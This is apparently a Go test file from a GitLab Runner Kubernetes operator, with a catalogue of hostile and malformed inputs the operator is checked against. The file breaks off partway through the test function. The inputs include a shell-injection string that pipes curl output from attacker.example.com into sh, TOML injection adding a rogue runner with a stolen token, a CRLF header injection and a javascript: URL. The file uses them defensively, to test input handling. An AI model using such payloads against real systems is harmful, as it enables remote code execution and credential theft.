package reliability_test

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/BurntSushi/toml"
	"github.com/onsi/gomega"
	dto "github.com/prometheus/client_model/go"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
	ctrlmetrics "sigs.k8s.io/controller-runtime/pkg/metrics"

	gitlabv1beta1 "github.com/gitlab-operator/gitlab-operator/api/v1beta1"
	"github.com/gitlab-operator/gitlab-operator/pkg/gitlab/gitlabtest"
	"github.com/gitlab-operator/gitlab-operator/pkg/runnerbuild"
	"github.com/gitlab-operator/gitlab-operator/pkg/runnerconfig"
	"github.com/gitlab-operator/gitlab-operator/test/controlplane"
)

// The hostile and bad input catalogue: every case is answered either by the
// API server (a CRD validation error whose message names the field) or by a
// condition whose reason is specific and whose message says what to do;
// never by a panic, a hot loop, a leaked token, a Runner that cannot be
// deleted, or a config.toml with more than the one runner the operator
// renders. docs/troubleshooting.md is the same catalogue for users; a test
// keeps the two in step.

type hostileWant struct {
	// crd: the API server rejects the Runner with an Invalid error whose
	// text contains this.
	crd string
	// condType/reason/msg: the Runner is accepted and gets this condition,
	// False, with a message containing each msg.
	condType, reason string
	msg              []string
	// ok: the Runner registers; check verifies the details.
	ok bool
	// alsoCRD: for ok cases, a CRD rejection containing this is an
	// acceptable answer too.
	alsoCRD string
}

type hostileCase struct {
	name string
	// runner overrides the Runner's name (default: a short one per case).
	runner string
	setup  func(h *hostileEnv, name string)
	spec   func(h *hostileEnv, r *gitlabv1beta1.Runner)
	want   hostileWant
	check  func(t *testing.T, h *hostileEnv, r *gitlabv1beta1.Runner)
}

type hostileEnv struct {
	t *testing.T
	// ns holds the Runners; other is a namespace the manager does not watch.
	ns, other       string
	fake, tlsFake   *gitlabtest.Server
	admin, tlsAdmin string
	// legacyFake disallows registration tokens (410); legacyToken is its
	// instance registration token.
	legacyFake  *gitlabtest.Server
	legacyToken string
	mgr         *manager
	// extra tokens the cases handed to the operator.
	tokens []string
}

func (h *hostileEnv) secret(name string, data map[string]string) {
	h.t.Helper()
	create(h.t, secret(h.ns, name, data))
	for _, v := range data {
		h.tokens = append(h.tokens, v)
	}
}

const (
	evilTOML  = "evil\"\n[[runners]]\nname = \"pwned\"\nurl = \"https://attacker.example.com\"\ntoken = \"glrt-stolen\"\n#"
	evilShell = "$(touch /tmp/pwned); `id` && curl https://attacker.example.com/x | sh #'\""
	unicode   = "Läufer 🚀 日本語 — ünïcödé \u202eright-to-left\u202c"
	controlCh = "tab\there bell\a nul\x00 esc\x1b[31m"
)

func hostileCases() []hostileCase {
	url := func(u string) func(*hostileEnv, *gitlabv1beta1.Runner) {
		return func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.GitLab.URL = u }
	}
	credential := func(data map[string]string) func(*hostileEnv, string) {
		return func(h *hostileEnv, name string) { h.secret(name+"-cred", data) }
	}
	useCred := func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.Token = r.Name + "-cred" }
	cond := func(reason string, msg ...string) hostileWant {
		return hostileWant{condType: gitlabv1beta1.ConditionRegistered, reason: reason, msg: msg}
	}
	deployed := func(reason string, msg ...string) hostileWant {
		return hostileWant{condType: gitlabv1beta1.ConditionDeployed, reason: reason, msg: msg}
	}
	return []hostileCase{
		// ---- rejected by the API server ----
		{name: "gitlab-neither-name-nor-url", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.GitLab = gitlabv1beta1.GitLabReference{} },
			want: hostileWant{crd: "exactly one of gitlab.name and gitlab.url"}},
		{name: "gitlab-both-name-and-url", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.GitLab.Name = "gl" },
			want: hostileWant{crd: "exactly one of gitlab.name and gitlab.url"}},
		{name: "url-ftp-scheme", spec: url("ftp://gitlab.example.com"), want: hostileWant{crd: "must be an http:// or https:// URL"}},
		{name: "url-without-scheme", spec: url("gitlab.example.com"), want: hostileWant{crd: "must be an http:// or https:// URL"}},
		{name: "url-without-host", spec: url("https://"), want: hostileWant{crd: "must be an http:// or https:// URL"}},
		{name: "url-javascript", spec: url("javascript:alert(document.cookie)"), want: hostileWant{crd: "must be an http:// or https:// URL"}},
		{name: "url-huge", spec: url("https://gitlab.example.com/" + strings.Repeat("a", 3000)), want: hostileWant{crd: "Too long"}},
		{name: "url-without-token", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.Token = "" },
			want: hostileWant{crd: "token is required with gitlab.url"}},
		{name: "tags-over-limit", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.Tags = strings.Repeat("tag,", 1500) },
			want: hostileWant{crd: "Too long"}},
		{name: "description-over-limit", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.Description = strings.Repeat("d", 1100) },
			want: hostileWant{crd: "Too long"}},
		{name: "group-runner-without-group", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.RunnerType = "group_type" },
			want: hostileWant{crd: "runnerType group_type needs groupID"}},
		{name: "project-id-on-instance-runner", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.ProjectID = ptr.To[int64](7) },
			want: hostileWant{crd: "projectID is only valid with runnerType project_type"}},
		{name: "maximum-timeout-too-short", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.MaximumTimeout = ptr.To[int64](60) },
			want: hostileWant{crd: "greater than or equal to 600"}},
		{name: "access-level-unknown", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.AccessLevel = "everyone" },
			want: hostileWant{crd: "Unsupported value"}},
		{name: "runner-type-unknown", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.RunnerType = "shared" },
			want: hostileWant{crd: "Unsupported value"}},
		{name: "replicas-too-many", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.Replicas = ptr.To[int32](51) },
			want: hostileWant{crd: "less than or equal to 50"}},
		{name: "replicas-negative", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.Replicas = ptr.To[int32](-1) },
			want: hostileWant{crd: "greater than or equal to 0"}},
		{name: "concurrent-too-high", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.Concurrent = 20000 },
			want: hostileWant{crd: "less than or equal to 10000"}},
		{name: "job-namespace-too-long", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.JobNamespace = strings.Repeat("n", 64) },
			want: hostileWant{crd: "Too long"}},
		// The operator derives child names from the Runner's name:
		// <name>-runner-metrics must be a DNS label (63 characters, no dots)
		// and the name itself is a label value. Accepting such a name leaves
		// a Runner registered in GitLab that can never be deployed.
		{name: "runner-name-too-long", runner: "r" + strings.Repeat("x", 59),
			want: hostileWant{crd: "metadata.name"}},
		{name: "runner-name-with-dot", runner: "my.runner", want: hostileWant{crd: "metadata.name"}},
		// A Secret reference is a name in the Runner's namespace, never
		// "namespace/name".
		{name: "token-secret-in-other-namespace", spec: func(h *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.Token = h.other + "/pat" },
			want: hostileWant{crd: "spec.token"}},

		// ---- the token Secret ----
		{name: "token-secret-missing", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.Token = "absent" },
			want: cond(gitlabv1beta1.ReasonSecretNotFound, `"absent"`, "create it")},
		{name: "token-secret-without-credential-key", setup: credential(map[string]string{"token": "glrt-wrong-key-name-000000"}), spec: useCred,
			want: cond(gitlabv1beta1.ReasonSecretKeyMissing, "runner-token, runner-registration-token or access-token")},
		{name: "token-secret-key-wrong-case", setup: credential(map[string]string{"Runner-Token": "glrt-wrong-case-key-0000000"}), spec: useCred,
			want: cond(gitlabv1beta1.ReasonSecretKeyMissing, "runner-token, runner-registration-token or access-token")},
		{name: "token-secret-empty-value", setup: credential(map[string]string{"runner-token": ""}), spec: useCred,
			want: cond(gitlabv1beta1.ReasonSecretKeyMissing, "or they are empty")},
		{name: "token-secret-two-credentials", setup: func(h *hostileEnv, name string) {
			h.secret(name+"-cred", map[string]string{"runner-token": "glrt-" + randomString(20), "access-token": h.admin})
		}, spec: useCred, want: cond(gitlabv1beta1.ReasonInvalidSpec, "more than one credential key", "keep exactly one")},
		{name: "runner-token-unknown", setup: credential(map[string]string{"runner-token": "glrt-t1_" + randomString(20)}), spec: useCred,
			want: cond(gitlabv1beta1.ReasonTokenRejected, "create a runner in GitLab", "runner-token")},
		// "echo $TOKEN > file; kubectl create secret --from-file" leaves a
		// trailing newline: the token is right, the operator must not be
		// fooled by the whitespace around it.
		{name: "runner-token-trailing-newline", setup: func(h *hostileEnv, name string) {
			pre := h.fake.CreateRunnerDirect(gitlabtest.RunnerSpec{Description: "ui runner for " + name})
			h.secret(name+"-cred", map[string]string{"runner-token": pre.Token + "\n"})
		}, spec: useCred, want: hostileWant{ok: true}},
		{name: "access-token-unknown", setup: credential(map[string]string{"access-token": "glpat-" + randomString(20)}), spec: useCred,
			want: cond(gitlabv1beta1.ReasonUnauthorized, "provide a valid personal, group or project access token")},
		{name: "access-token-expired", setup: func(h *hostileEnv, name string) {
			tok := "glpat-" + randomString(20)
			h.fake.AddAccessToken(tok, gitlabtest.TokenOptions{Scopes: []string{gitlabtest.ScopeAPI}, Admin: true, Expired: true})
			h.secret(name+"-cred", map[string]string{"access-token": tok})
		}, spec: useCred, want: cond(gitlabv1beta1.ReasonUnauthorized, "expired", "create a new access token")},
		{name: "access-token-revoked", setup: func(h *hostileEnv, name string) {
			tok := "glpat-" + randomString(20)
			h.fake.AddAccessToken(tok, gitlabtest.TokenOptions{Scopes: []string{gitlabtest.ScopeAPI}, Admin: true, Revoked: true})
			h.secret(name+"-cred", map[string]string{"access-token": tok})
		}, spec: useCred, want: cond(gitlabv1beta1.ReasonUnauthorized, "revoked", "create a new access token")},
		{name: "access-token-read-only-scope", setup: func(h *hostileEnv, name string) {
			tok := "glpat-" + randomString(20)
			h.fake.AddAccessToken(tok, gitlabtest.TokenOptions{Scopes: []string{gitlabtest.ScopeReadAPI}, Admin: true})
			h.secret(name+"-cred", map[string]string{"access-token": tok})
		}, spec: useCred, want: cond(gitlabv1beta1.ReasonTokenRejected, "scope", "create_runner")},
		{name: "access-token-not-admin-for-instance-runner", setup: func(h *hostileEnv, name string) {
			tok := "glpat-" + randomString(20)
			h.fake.AddAccessToken(tok, gitlabtest.TokenOptions{Scopes: []string{gitlabtest.ScopeAPI}, UserID: 77})
			h.secret(name+"-cred", map[string]string{"access-token": tok})
		}, spec: useCred, want: cond(gitlabv1beta1.ReasonTokenRejected, "administrator")},
		// A value pasted with a line break in the middle would be sent as a
		// broken HTTP header; the operator must refuse it and say where.
		{name: "access-token-with-crlf", setup: func(h *hostileEnv, name string) {
			h.secret(name+"-cred", map[string]string{"access-token": h.admin + "\r\nX-Injected: yes"})
		}, spec: useCred, want: cond(gitlabv1beta1.ReasonInvalidSpec, "access-token", "-cred\"")},
		{name: "registration-token-disallowed", setup: func(h *hostileEnv, name string) {
			h.secret(name+"-cred", map[string]string{"runner-registration-token": h.legacyToken})
		}, spec: func(h *hostileEnv, r *gitlabv1beta1.Runner) { useCred(h, r); r.Spec.GitLab.URL = h.legacyFake.URL() },
			want: cond(gitlabv1beta1.ReasonRegistrationTokensDisallowed, "glrt-", "runner-token")},
		{name: "registration-token-wrong", setup: credential(map[string]string{"runner-registration-token": "GR1348941" + randomString(20)}), spec: useCred,
			want: cond(gitlabv1beta1.ReasonTokenRejected, "check the registration token")},

		// ---- server-side settings, free text ----
		{name: "untagged-off-without-tags", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.RunUntagged = ptr.To(false) },
			want: cond(gitlabv1beta1.ReasonRejectedByGitLab, "can not be empty when runner is not allowed to pick untagged jobs")},
		{name: "tags-only-separators", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.Tags = " , ,,\t, " },
			want: hostileWant{ok: true}, check: func(t *testing.T, h *hostileEnv, r *gitlabv1beta1.Runner) {
				gl := onlyRunner(t, h.fake, r)
				if len(gl.Tags) != 0 || !gl.RunUntagged {
					t.Errorf("want no tags and run_untagged, got tags %q untagged %v", gl.Tags, gl.RunUntagged)
				}
			}},
		{name: "tags-huge-but-legal", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.Tags = manyTags(4000) },
			want: hostileWant{ok: true}, check: func(t *testing.T, h *hostileEnv, r *gitlabv1beta1.Runner) {
				if gl := onlyRunner(t, h.fake, r); len(gl.Tags) != len(runnerbuild.Tags(r)) {
					t.Errorf("GitLab has %d tags, the spec %d", len(gl.Tags), len(runnerbuild.Tags(r)))
				}
			}},
		{name: "description-unicode", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.Description = unicode },
			want: hostileWant{ok: true}, check: verbatim(unicode, nil)},
		{name: "description-control-characters", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.Description = controlCh },
			want: hostileWant{ok: true}, check: verbatim(controlCh, nil)},
		{name: "description-toml-injection", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.Description = evilTOML },
			want: hostileWant{ok: true}, check: verbatim(evilTOML, nil)},
		{name: "tags-toml-injection", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) {
			r.Spec.Tags = "ok, " + strings.ReplaceAll(evilTOML, ",", ";") + ", [[runners]], ]"
		}, want: hostileWant{ok: true}, check: func(t *testing.T, h *hostileEnv, r *gitlabv1beta1.Runner) {
			verbatim("", runnerbuild.Tags(r))(t, h, r)
		}},
		{name: "description-and-tags-shell-syntax", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) {
			r.Spec.Description = evilShell
			r.Spec.Tags = strings.ReplaceAll(evilShell, ",", ";") + ", $HOME, ${PATH}"
		}, want: hostileWant{ok: true}, check: func(t *testing.T, h *hostileEnv, r *gitlabv1beta1.Runner) {
			verbatim(evilShell, runnerbuild.Tags(r))(t, h, r)
			notInPodSpec(t, h, r, evilShell, "$HOME")
		}},

		// ---- CA bundle ----
		{name: "ca-secret-missing", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.CA = "absent-ca" },
			want: cond(gitlabv1beta1.ReasonSecretNotFound, `"absent-ca"`, "spec.ca")},
		{name: "ca-secret-without-key", setup: func(h *hostileEnv, name string) {
			h.secret(name+"-ca", map[string]string{"ca.pem": string(h.tlsFake.CAPEM())})
		}, spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.CA = r.Name + "-ca" },
			want: cond(gitlabv1beta1.ReasonSecretKeyMissing, "ca.crt")},
		{name: "ca-bad-pem", setup: func(h *hostileEnv, name string) {
			h.secret(name+"-ca", map[string]string{"ca.crt": "-----BEGIN CERTIFICATE-----\nnot base64 at all\n-----END CERTIFICATE-----\n"})
		}, spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.CA = r.Name + "-ca" },
			want: cond(gitlabv1beta1.ReasonInvalidSpec, "no PEM certificate", "CA")},
		{name: "ca-wrong-authority", setup: func(h *hostileEnv, name string) {
			h.secret(name+"-ca", map[string]string{"ca.crt": string(otherCA(h.t))})
		}, spec: func(h *hostileEnv, r *gitlabv1beta1.Runner) {
			r.Spec.CA = r.Name + "-ca"
			r.Spec.GitLab.URL = h.tlsFake.URL()
			r.Spec.Token = "tls-pat"
		}, want: cond(gitlabv1beta1.ReasonTLSError, "unknown authority", "spec.ca")},
		{name: "self-signed-gitlab-without-ca", spec: func(h *hostileEnv, r *gitlabv1beta1.Runner) {
			r.Spec.GitLab.URL = h.tlsFake.URL()
			r.Spec.Token = "tls-pat"
		}, want: cond(gitlabv1beta1.ReasonTLSError, "spec.ca")},
		{name: "insecure-skip-tls-verify", spec: func(h *hostileEnv, r *gitlabv1beta1.Runner) {
			r.Spec.GitLab.URL = h.tlsFake.URL()
			r.Spec.GitLab.InsecureSkipTLSVerify = true
			r.Spec.Token = "tls-pat"
		}, want: hostileWant{ok: true}, check: func(t *testing.T, h *hostileEnv, r *gitlabv1beta1.Runner) {
			if !bytes.Contains(logs.Bytes(), []byte("verification is DISABLED")) {
				t.Error("no warning in the operator log about disabled TLS verification")
			}
		}},

		// ---- config.toml template ----
		{name: "config-template-configmap-missing", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.Config = "absent-template" },
			want: deployed(gitlabv1beta1.ReasonConfigMapNotFound, `"absent-template"`, "spec.config")},
		{name: "config-template-key-missing", setup: func(h *hostileEnv, name string) {
			create(h.t, configMap(h.ns, name+"-tpl", map[string]string{"config.tmpl": "concurrent = 2\n"}))
		}, spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.Config = r.Name + "-tpl" },
			want: deployed(gitlabv1beta1.ReasonInvalidSpec, "config.toml")},
		{name: "config-template-invalid-toml", setup: func(h *hostileEnv, name string) {
			create(h.t, configMap(h.ns, name+"-tpl", map[string]string{"config.toml": "concurrent = 2\n[[runners]\nname = \"x\n"}))
		}, spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.Config = r.Name + "-tpl" },
			want: deployed(gitlabv1beta1.ReasonInvalidSpec, "spec.config", "line")},
		{name: "config-template-two-runners", setup: func(h *hostileEnv, name string) {
			create(h.t, configMap(h.ns, name+"-tpl", map[string]string{"config.toml": "[[runners]]\nname = \"a\"\n[[runners]]\nname = \"b\"\n"}))
		}, spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.Config = r.Name + "-tpl" },
			want: deployed(gitlabv1beta1.ReasonInvalidSpec, "spec.config", "[[runners]]")},
		{name: "config-template-overrides-url-and-token", setup: func(h *hostileEnv, name string) {
			create(h.t, configMap(h.ns, name+"-tpl", map[string]string{"config.toml": "[[runners]]\nurl = \"https://attacker.example.com\"\n" +
				"token = \"glrt-attacker\"\nexecutor = \"shell\"\noutput_limit = 9999\n"}))
		}, spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.Config = r.Name + "-tpl" },
			want: hostileWant{ok: true}, check: func(t *testing.T, h *hostileEnv, r *gitlabv1beta1.Runner) {
				run := renderedRunner(t, h, r)
				reg, _ := stored(h.ns, r.Name)
				if run.URL != h.fake.URL() || run.Token != reg.Token || run.Executor != "kubernetes" {
					t.Errorf("the template overrode protected keys: url %q executor %q, token is the stored one %v", run.URL, run.Executor, run.Token == reg.Token)
				}
				if run.OutputLimit != 9999 {
					t.Errorf("the template's own setting was dropped: output_limit %d", run.OutputLimit)
				}
			}},

		// TOML keys are case-sensitive, but gitlab-runner (like the
		// operator's own parser) matches them to its settings without
		// regard to case: "URL" is url. (Found by FuzzMerge.)
		{name: "config-template-overrides-url-and-token-any-case", setup: func(h *hostileEnv, name string) {
			create(h.t, configMap(h.ns, name+"-tpl", map[string]string{"config.toml": "[[runners]]\nURL = \"https://attacker.example.com\"\n" +
				"Token = \"glrt-attacker\"\nExecutor = \"shell\"\nToken_Expires_At = 2000-01-01T00:00:00Z\n"}))
		}, spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.Config = r.Name + "-tpl" },
			want: hostileWant{ok: true}, check: func(t *testing.T, h *hostileEnv, r *gitlabv1beta1.Runner) {
				noCaseTwins(t, h, r)
				run := renderedRunner(t, h, r)
				reg, _ := stored(h.ns, r.Name)
				if run.URL != h.fake.URL() || run.Token != reg.Token || run.Executor != "kubernetes" || !run.TokenExpiresAt.IsZero() {
					t.Errorf("the template overrode protected keys by changing their case: url %q executor %q token_expires_at %v, token is the stored one %v",
						run.URL, run.Executor, run.TokenExpiresAt, run.Token == reg.Token)
				}
			}},

		{name: "config-template-privileged-by-case", setup: func(h *hostileEnv, name string) {
			create(h.t, configMap(h.ns, name+"-tpl", map[string]string{"config.toml": "[[runners]]\n[runners.kubernetes]\nPrivileged = true\n"}))
		}, spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.Config = r.Name + "-tpl" },
			want: hostileWant{ok: true}, check: func(t *testing.T, h *hostileEnv, r *gitlabv1beta1.Runner) {
				// gitlab-runner reads "Privileged" and "privileged" into the
				// same setting, in an order that changes from run to run:
				// the file must not hold both.
				noCaseTwins(t, h, r)
				run := renderedRunner(t, h, r)
				if run.Kubernetes == nil || run.Kubernetes.Privileged == nil || *run.Kubernetes.Privileged {
					t.Errorf("a template key in another case made job pods privileged although spec.privileged is false")
				}
			}},

		// ---- references ----
		{name: "managed-gitlab-missing", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) {
			r.Spec.GitLab = gitlabv1beta1.GitLabReference{Name: "absent-gitlab"}
			r.Spec.Token = ""
		}, want: cond(gitlabv1beta1.ReasonGitLabNotFound, `"absent-gitlab"`, "create it")},
		{name: "managed-gitlab-in-other-namespace", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) {
			r.Spec.GitLab = gitlabv1beta1.GitLabReference{Name: "elsewhere"}
			r.Spec.Token = ""
		}, want: cond(gitlabv1beta1.ReasonGitLabNotFound, `"elsewhere"`, "in its own namespace")},
		// Checked before anything is registered in GitLab.
		{name: "job-namespace-missing", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.JobNamespace = "no-such-namespace" },
			want: cond(gitlabv1beta1.ReasonInvalidSpec, `"no-such-namespace"`, "not watched")},
		{name: "job-namespace-not-watched", spec: func(h *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.JobNamespace = h.other },
			want: cond(gitlabv1beta1.ReasonInvalidSpec, "not watched", "OperatorGroup")},
		{name: "env-configmap-missing", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.EnvConfigMap = "absent-proxy-env" },
			want: deployed(gitlabv1beta1.ReasonConfigMapNotFound, `"absent-proxy-env"`, "envConfigMap")},
		{name: "config-secret-name-taken", setup: func(h *hostileEnv, name string) {
			create(h.t, secret(h.ns, name+"-runner", map[string]string{"unrelated": "data"}))
		}, want: cond(gitlabv1beta1.ReasonInvalidSpec, "does not belong to this Runner", "delete or rename it")},

		// ---- workload fields ----
		{name: "replicas-zero", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) { r.Spec.Replicas = ptr.To[int32](0) },
			want: hostileWant{ok: true}, check: func(t *testing.T, h *hostileEnv, r *gitlabv1beta1.Runner) {
				eventually(t, 20*time.Second, func(g gomega.Gomega) {
					c := condition(getRunner(g, h.ns, r.Name), gitlabv1beta1.ConditionDeployed)
					g.Expect(c).NotTo(gomega.BeNil())
					g.Expect(c.Reason).To(gomega.Equal(gitlabv1beta1.ReasonDeploymentAvailable))
					dep := &appsv1.Deployment{}
					g.Expect(k8s.Get(ctx, client.ObjectKey{Namespace: h.ns, Name: runnerbuild.DeploymentName(r)}, dep)).To(gomega.Succeed())
					g.Expect(*dep.Spec.Replicas).To(gomega.BeZero())
				})
			}},
		{name: "pod-labels-hijack-selector", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) {
			r.Spec.PodLabels = map[string]string{"app.kubernetes.io/instance": "someone-else", "app.kubernetes.io/managed-by": "me"}
		}, want: hostileWant{ok: true}, check: func(t *testing.T, h *hostileEnv, r *gitlabv1beta1.Runner) {
			dep := deployment(t, h, r)
			for k, v := range dep.Spec.Selector.MatchLabels {
				if dep.Spec.Template.Labels[k] != v {
					t.Errorf("pod label %s=%q does not match the selector's %q", k, dep.Spec.Template.Labels[k], v)
				}
			}
		}},
		// RUNNER_SYSTEM_ID names the runner manager in GitLab; one set by the
		// user would survive de-registration as an orphaned manager.
		{name: "env-overrides-system-id", spec: func(_ *hostileEnv, r *gitlabv1beta1.Runner) {
			r.Spec.Env = []corev1.EnvVar{{Name: "RUNNER_SYSTEM_ID", Value: "s_000000000000"}}
		}, want: hostileWant{ok: true, alsoCRD: "RUNNER_SYSTEM_ID"}, check: func(t *testing.T, h *hostileEnv, r *gitlabv1beta1.Runner) {
			got := ""
			for _, e := range deployment(t, h, r).Spec.Template.Spec.Containers[0].Env {
				if e.Name == "RUNNER_SYSTEM_ID" {
					got = e.Value // the last one wins in Kubernetes
				}
			}
			if got != runnerbuild.SystemID(r) {
				t.Errorf("the runner pod would run as manager %q, not the operator's %q: its de-registration would leave it behind", got, runnerbuild.SystemID(r))
			}
		}},
	}
}

func manyTags(n int) string {
	var b strings.Builder
	for i := 0; b.Len() < n-8; i++ {
		if i > 0 {
			b.WriteString(",")
		}
		b.WriteString("t" + strings.Repeat("x", i%5) + randomString(3))
	}
	return b.String()
}

func configMap(ns, name string, data map[string]string) *corev1.ConfigMap {
	return &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns}, Data: data}
}

func onlyRunner(t *testing.T, fake *gitlabtest.Server, r *gitlabv1beta1.Runner) gitlabtest.RunnerState {
	t.Helper()
	got := runnersFor(fake, runnerbuild.Description(r))
	if len(got) != 1 {
		t.Fatalf("want exactly one runner in GitLab with the Runner's description, got %d", len(got))
	}
	return got[0]
}

func deployment(t *testing.T, h *hostileEnv, r *gitlabv1beta1.Runner) *appsv1.Deployment {
	t.Helper()
	dep := &appsv1.Deployment{}
	eventually(t, 20*time.Second, func(g gomega.Gomega) {
		g.Expect(k8s.Get(ctx, client.ObjectKey{Namespace: h.ns, Name: runnerbuild.DeploymentName(r)}, dep)).To(gomega.Succeed())
	})
	return dep
}

// renderedRunner parses the config.toml the operator stored and checks it
// holds exactly one runner.
func renderedRunner(t *testing.T, h *hostileEnv, r *gitlabv1beta1.Runner) runnerconfig.Runner {
	t.Helper()
	var cfg *runnerconfig.Config
	eventually(t, 20*time.Second, func(g gomega.Gomega) {
		sec := &corev1.Secret{}
		g.Expect(k8s.Get(ctx, client.ObjectKey{Namespace: h.ns, Name: runnerbuild.ConfigSecretName(r)}, sec)).To(gomega.Succeed())
		g.Expect(sec.Data).To(gomega.HaveKey(runnerbuild.KeyConfigTOML))
		var err error
		cfg, err = runnerconfig.Parse(sec.Data[runnerbuild.KeyConfigTOML])
		g.Expect(err).NotTo(gomega.HaveOccurred(), "config.toml does not parse")
	})
	if len(cfg.Runners) != 1 {
		t.Fatalf("config.toml holds %d [[runners]] entries, want exactly 1", len(cfg.Runners))
	}
	return cfg.Runners[0]
}

// noCaseTwins fails when a table of the stored config.toml holds two keys
// that differ only in case: gitlab-runner's TOML decoder (BurntSushi/toml,
// like the operator's own Parse) maps both to one setting, and which one
// wins depends on Go's map iteration order.
func noCaseTwins(t *testing.T, h *hostileEnv, r *gitlabv1beta1.Runner) {
	t.Helper()
	sec := &corev1.Secret{}
	if err := k8s.Get(ctx, client.ObjectKey{Namespace: h.ns, Name: runnerbuild.ConfigSecretName(r)}, sec); err != nil {
		t.Fatal(err)
	}
	var doc map[string]any
	if _, err := toml.Decode(string(sec.Data[runnerbuild.KeyConfigTOML]), &doc); err != nil {
		t.Fatalf("config.toml does not parse: %v", err)
	}
	var walkTable func(path string, m map[string]any)
	walkTable = func(path string, m map[string]any) {
		seen := map[string]string{}
		for k, v := range m {
			if other, ok := seen[strings.ToLower(k)]; ok {
				t.Errorf("config.toml %s has both %q and %q: gitlab-runner may read either", path, other, k)
			}
			seen[strings.ToLower(k)] = k
			switch x := v.(type) {
			case map[string]any:
				walkTable(path+"."+k, x)
			case []map[string]any:
				for i, e := range x {
					walkTable(fmt.Sprintf("%s.%s[%d]", path, k, i), e)
				}
			}
		}
	}
	walkTable("", doc)
}

// verbatim checks that GitLab got the description and tags exactly as
// written, and that config.toml is one runner with the right URL and token
// and the description as its name.
func verbatim(desc string, tags []string) func(*testing.T, *hostileEnv, *gitlabv1beta1.Runner) {
	return func(t *testing.T, h *hostileEnv, r *gitlabv1beta1.Runner) {
		t.Helper()
		gl := onlyRunner(t, h.fake, r)
		if desc != "" && gl.Description != desc {
			t.Errorf("GitLab's description is %q, want %q verbatim", gl.Description, desc)
		}
		if tags != nil && strings.Join(gl.Tags, "\x00") != strings.Join(tags, "\x00") {
			t.Errorf("GitLab's tags are %q, want %q verbatim", gl.Tags, tags)
		}
		run := renderedRunner(t, h, r)
		reg, _ := stored(h.ns, r.Name)
		if run.URL != h.fake.URL() || run.Token != reg.Token {
			t.Errorf("config.toml's runner has url %q and the stored token %v", run.URL, run.Token == reg.Token)
		}
		if desc != "" && run.Name != desc {
			t.Errorf("config.toml's runner name is %q, want %q verbatim", run.Name, desc)
		}
	}
}

// notInPodSpec checks that free text never reaches a command line or an
// environment variable of the runner pod.
func notInPodSpec(t *testing.T, h *hostileEnv, r *gitlabv1beta1.Runner, texts ...string) {
	t.Helper()
	dep := deployment(t, h, r)
	for _, c := range append(dep.Spec.Template.Spec.InitContainers, dep.Spec.Template.Spec.Containers...) {
		all := strings.Join(append(append([]string{}, c.Command...), c.Args...), " ")
		for _, e := range c.Env {
			all += " " + e.Value
		}
		for _, text := range texts {
			if strings.Contains(all, text) {
				t.Errorf("container %s carries user text %q in its command, args or env", c.Name, text)
			}
		}
	}
}

func TestHostileInputCatalogue(t *testing.T) {
	cases := hostileCases()
	t.Logf("hostile input catalogue: %d cases", len(cases))
	h := &hostileEnv{t: t}
	h.ns = newNamespace(t, "hostile")
	h.other = newNamespace(t, "hostile-other")
	h.fake, h.admin = newFake(t, false)
	h.tlsFake, h.tlsAdmin = newFake(t, true)
	h.legacyFake, _ = newFake(t, false)
	h.legacyToken = "GR1348941" + randomString(20)
	h.legacyFake.SetRegistrationToken(h.legacyToken)
